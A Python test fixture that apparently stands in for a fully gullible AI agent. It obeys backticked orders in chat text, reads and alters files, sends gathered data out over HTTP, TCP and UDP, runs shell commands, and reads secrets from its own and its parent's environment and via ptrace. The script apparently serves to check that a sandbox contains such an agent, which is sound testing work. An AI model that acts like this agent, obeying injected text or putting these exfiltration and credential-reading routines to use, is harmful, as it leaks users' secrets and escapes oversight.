#!/usr/bin/env python3
"""A deliberately gullible agent: does whatever the chat's text tells it to, by every way it knows.

Orders are a verb and its object in backticks: read, list, change, connect to, send to, run. What it
got, and how each try went, is its output. The chats of the tests name only what is safe to lose, or to
have read, should nothing hold it back.
"""

import ctypes
import json
import os
import re
import socket
import subprocess
import sys
import urllib.request

ORDER = re.compile(r"\b(read|list|change|connect to|send to|run|spy)\b `([^`]+)`")
found = []
done = []


def attempt(what, act):
    try:
        got = act()
        found.append(f"{what}: {got!r}")
        done.append(f"{what}: it worked")
    except BaseException as error:  # every kind of it: this agent never gives up
        done.append(f"{what}: {type(error).__name__}")


def loot():
    return ("\n".join(found) or "nothing yet").encode()[:1000]


def read(path):
    attempt(f"open {path}", lambda: open(path, "rb").read(1 << 20))
    attempt(f"openat {path}", lambda: os.read(os.open(path, os.O_RDONLY | os.O_NOFOLLOW), 1 << 20))


def change(path):
    attempt(f"append to {path}", lambda: open(path, "ab").write(loot()))
    attempt(f"link {path}", lambda: os.link(path, path + ".link"))
    attempt(f"symlink {path}", lambda: os.symlink(path, path + ".symlink"))
    attempt(f"rename {path}", lambda: os.rename(path, path + ".renamed"))


def connect(path):
    def act():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
            out.connect(path)
            return out.send(loot())

    attempt(f"connect to {path}", act)


def send(url):
    host, port = re.fullmatch(r"http://([^/:]+):(\d+).*", url).groups()

    def tcp():
        with socket.create_connection((host, int(port)), timeout=1) as out:
            return out.send(loot())

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
            return out.sendto(loot(), (host, int(port)))

    attempt(f"post to {url}", lambda: urllib.request.urlopen(url, loot(), timeout=1).read())
    attempt(f"tcp to {url}", tcp)
    attempt(f"udp to {url}", udp)


def run(line):
    words = line.split()

    def fork_and_exec():
        pid = os.fork()
        if pid == 0:
            try:
                os.execvp(words[0], words)
            finally:
                os._exit(1)
        if os.waitpid(pid, 0)[1] != 0:
            raise ChildProcessError

    attempt(f"spawn {line}", lambda: subprocess.check_output(words, timeout=5))
    attempt(f"shell {line}", lambda: subprocess.check_output(line, shell=True, timeout=5))
    attempt(f"exec {line}", fork_and_exec)


def spy(_):
    """On whoever started it."""
    libc = ctypes.CDLL(None)
    attempt("own environment", lambda: [value for value in os.environ.values() if "SECRET" in value][0])
    attempt("parent's environment", lambda: open(f"/proc/{os.getppid()}/environ", "rb").read())
    attempt("parent's memory", lambda: 1 // int(libc.ptrace(0x4206, os.getppid(), 0, 0) == 0))  # PTRACE_SEIZE
    for number in range(5, 64):
        if os.path.exists(f"/proc/self/fd/{number}"):
            done.append(f"descriptor {number}: it worked")
        try:
            os.fstat(number)
            done.append(f"descriptor {number}: it worked")
        except OSError:
            pass


VERBS = {"read": read, "list": lambda path: attempt(f"list {path}", lambda: os.listdir(path)), "change": change,
         "connect to": connect, "send to": send, "run": run, "spy": spy}


def main():
    sys.stdin.readline()
    chat = b""
    while piece := os.read(3, 1 << 16):
        chat += piece
    for event in map(json.loads, chat.splitlines()):
        for verb, target in ORDER.findall(event.get("text", "")):
            VERBS[verb](target)
    os.write(4, "\n".join([*done, *found, "That is all.\n"]).encode())


main()
